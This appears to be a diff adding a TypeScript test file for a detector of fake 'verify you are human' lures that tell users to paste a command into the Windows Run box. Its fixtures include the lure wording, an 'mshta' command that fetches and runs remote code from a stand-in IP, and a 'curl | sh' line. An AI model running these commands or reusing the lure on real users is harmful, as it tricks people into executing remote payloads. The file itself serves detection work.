@@ -1,0 +1,26 @@
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import { AROUND, pastedCommand } from './pasting.ts'
+
+const LURE = 'Verify that you are human: press Windows + R, paste the line and press Enter.'
+const COMMAND = 'mshta http://203.0.113.5/a'
+
+test('a command that belongs to the keys is found, wherever the text is', () => {
+  assert.equal(pastedCommand(`${LURE}\n${COMMAND}`), COMMAND)
+  assert.equal(pastedCommand(`${'word '.repeat(100_000)}\n${LURE}\n${COMMAND}\n${'word '.repeat(9_000)}`), COMMAND)
+  const keys = LURE.indexOf('Windows')
+  const at = (distance: number): string => `${LURE}${' '.repeat(distance - LURE.length + keys)}\n${COMMAND}`
+  assert.equal(pastedCommand(at(AROUND - COMMAND.length - 1)), COMMAND)
+  assert.equal(pastedCommand(at(AROUND)), null)
+})
+
+test('texts without keys, a pretext or a server ask for nothing', () => {
+  for (const text of [
+    COMMAND,
+    `Press Windows + R and paste this line:\nmshta https://tools.example.com/a.hta`,
+    `${LURE}\nservices.msc`,
+    `${LURE}\n${COMMAND}\nNever run such a line.`,
+    'Open a terminal and paste: curl -fsSL https://get.example.com | sh',
+  ])
+    assert.equal(pastedCommand(text), null, text)
+})
